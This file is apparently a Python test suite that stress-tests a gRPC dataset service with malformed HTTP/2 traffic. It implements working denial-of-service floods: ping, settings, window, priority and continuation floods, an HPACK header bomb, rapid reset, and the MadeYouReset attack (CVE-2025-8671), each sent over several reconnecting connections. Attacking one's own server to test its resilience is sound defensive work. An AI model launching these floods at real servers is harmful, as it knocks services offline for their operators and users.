"""The attacks on a dataset api by frames of HTTP/2 that no client of gRPC sends."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from itertools import count

from tests.attack.kinds import KINDS, LIST, Target, attack, on_connections
from tests.support.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW,
    Frames,
    call_headers,
    frame,
    remembered,
    repeated,
)

__all__ = ["KINDS"]
CONNECTIONS = 4
BURST = 50  # frames between two looks at the connection
BLOCK = 16_000  # bytes of a frame; the most that a server has to take is 16,384
BOMB = 4_000  # bytes of a header that is sent once and referred to again and again


@attack
async def ping_flood(target: Target) -> None:
    """Pings, each of which has to be answered."""
    await _flooding(target, lambda _: frame(PING, payload=b"12345678"))


@attack
async def settings_flood(target: Target) -> None:
    """Settings, each of which has to be acknowledged."""
    await _flooding(target, lambda number: frame(SETTINGS, payload=b"\0\4" + (65_535 - number % 9).to_bytes(4, "big")))


@attack
async def window_flood(target: Target) -> None:
    """Windows that grow by one byte."""
    await _flooding(target, lambda _: frame(WINDOW, payload=b"\0\0\0\1"))


@attack
async def priority_flood(target: Target) -> None:
    """Priorities of streams that there are not."""
    await _flooding(target, lambda number: frame(PRIORITY, payload=b"\0\0\0\0\7", stream=2 * number + 1))


@attack
async def unknown_frames(target: Target) -> None:
    """Frames of a kind that there is not, which are to be ignored."""
    await _flooding(target, lambda _: frame(0xFA, payload=bytes(BLOCK)))


@attack
async def continuation_flood(target: Target) -> None:
    """Headers that never end, without a token."""
    more = call_headers(LIST) + repeated("x", "y" * 100, BLOCK)

    def headers(number: int) -> bytes:
        return frame(HEADERS if number == 0 else CONTINUATION, 0, more[:BLOCK] if number else call_headers(LIST), 1)

    await _flooding(target, headers)


@attack
async def empty_continuations(target: Target) -> None:
    """Headers that never end, whose continuations have nothing in them."""
    await _flooding(target, lambda number: frame(CONTINUATION if number else HEADERS, stream=1))


@attack
async def header_bombs(target: Target) -> None:
    """Headers of a few bytes that stand for megabytes, by references to one that was sent before."""
    bomb = call_headers(LIST) + remembered("x", "y" * BOMB)

    def headers(number: int) -> bytes:
        block = (bomb if number == 0 else call_headers(LIST)) + b"\xbe" * (BLOCK // 2)
        return frame(HEADERS, END_HEADERS | END_STREAM, block, 2 * number + 1)

    await _flooding(target, headers)


@attack
async def empty_messages(target: Target) -> None:
    """A viewer's uploads of frames that have no data."""
    opening = call_headers("/sightline.v1.DatasetService/UploadFiles", target.tokens["trainer"])
    await _flooding(target, lambda n: frame(DATA, 0, b"", 1) if n else frame(HEADERS, END_HEADERS, opening, 1))


@attack
async def made_you_reset(target: Target) -> None:
    """Calls that the server has to reset, because frames follow that are not allowed there (CVE-2025-8671)."""

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        headers = frame(HEADERS, END_HEADERS | END_STREAM, call_headers(LIST, target.tokens["viewer"]), stream)
        wrong = (frame(WINDOW, 0, bytes(4), stream), frame(DATA, 0, b"x", stream), frame(PRIORITY, 0, b"\0", stream))
        return headers + wrong[number % len(wrong)]

    await _flooding(target, call)


@attack
async def reset_flood(target: Target) -> None:
    """Fifty calls at once, cancelled together, again and again."""

    def calls(number: int) -> bytes:
        streams = range(2 * BURST * number + 1, 2 * BURST * (number + 1) + 1, 2)
        headers = call_headers(LIST, target.tokens["viewer"])
        return b"".join(frame(HEADERS, END_HEADERS, headers, stream) for stream in streams) + b"".join(
            frame(RESET, 0, CANCEL, stream) for stream in streams
        )

    await _flooding(target, calls)


async def _flooding(target: Target, make: Callable[[int], bytes]) -> None:
    """Sends frame after frame on a few connections, which are opened again when the server closes them."""

    pause_seconds = 0.0 if target.calls > 1000 else 0.02  # a short attack shares the server's event loop

    async def flood(link: Frames) -> None:
        for number in count():
            if link.writer.transport.is_closing():
                return
            link.writer.write(make(number))
            if number % BURST == 0:
                await link.writer.drain()
                await asyncio.sleep(pause_seconds)

    await on_connections(target, flood, connections=CONNECTIONS)
